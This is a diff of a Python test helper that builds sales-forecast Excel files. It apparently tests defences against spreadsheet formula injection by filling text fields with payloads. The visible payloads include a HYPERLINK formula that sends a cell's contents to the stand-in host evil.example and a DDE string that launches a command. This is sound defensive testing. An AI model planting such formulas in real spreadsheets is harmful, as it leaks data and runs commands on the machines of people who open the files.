@@ -329,20 +329,25 @@ PAYLOADS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc
 def payload_forecasts(folder: Path, *, benign: bool = False, lang: str = "en") -> list[Path]:
     """Two reps' forecasts whose customers, notes and some opportunity ids start with a
     formula payload (``benign``: the same files with plain text instead)."""
-    cfg = default_config()
     files = []
     for n, owner in enumerate(("Alice Wang", "Bob Li")):
-        lines = []
-        for i in range(6):
-            text = f"plain text {i}" if benign else PAYLOADS[(i + n) % len(PAYLOADS)]
-            lines.append({"opportunity_id": f"OPP-{n}{i}" if benign or i % 2 else f"-{n}{i}", "customer": text,
-                          "owner": owner, "confirmed": "Y", "stage": cfg.stages[4].label(lang),
-                          "status": "Open", "category": "Commit", "amount": 100_000.0 * (i + 1),
-                          "close_date": dt.date(2026, 12, 15), "owner_forecast": 100_000.0 * (i + 1),
-                          "adjustment_note": text, "adjusted_by": text})
-        files.append(write_forecast(folder / f"forecast-{n}.xlsx", owner=owner, manager="Carol Zhang", lines=lines,
-                                    lang=lang, submitted=dt.date(2026, 11, 20), quota=1_000_000.0))
+        files.append(write_forecast(folder / f"forecast-{n}.xlsx", owner=owner, manager="Carol Zhang",
+                                    lines=forecast_lines(owner, n, benign=benign, lang=lang), lang=lang,
+                                    submitted=dt.date(2026, 11, 20), quota=1_000_000.0))
     return files
+
+
+def forecast_lines(owner: str, n: int, *, benign: bool, lang: str = "en") -> list[dict[str, Any]]:
+    """Six confirmed commit lines of ``owner``; text fields carry a payload unless ``benign``."""
+    stage = default_config().stages[4].label(lang)
+    lines = []
+    for i in range(6):
+        text = f"plain text {i}" if benign else PAYLOADS[(i + n) % len(PAYLOADS)]
+        lines.append({"opportunity_id": f"OPP-{n}{i}" if benign or i % 2 else f"-{n}{i}", "customer": text,
+                      "owner": owner, "confirmed": "Y", "stage": stage, "status": "Open", "category": "Commit",
+                      "amount": 100_000.0 * (i + 1), "close_date": dt.date(2026, 12, 15),
+                      "owner_forecast": 100_000.0 * (i + 1), "adjustment_note": text, "adjusted_by": text})
+    return lines
 
 
 if __name__ == "__main__":  # pragma: no cover
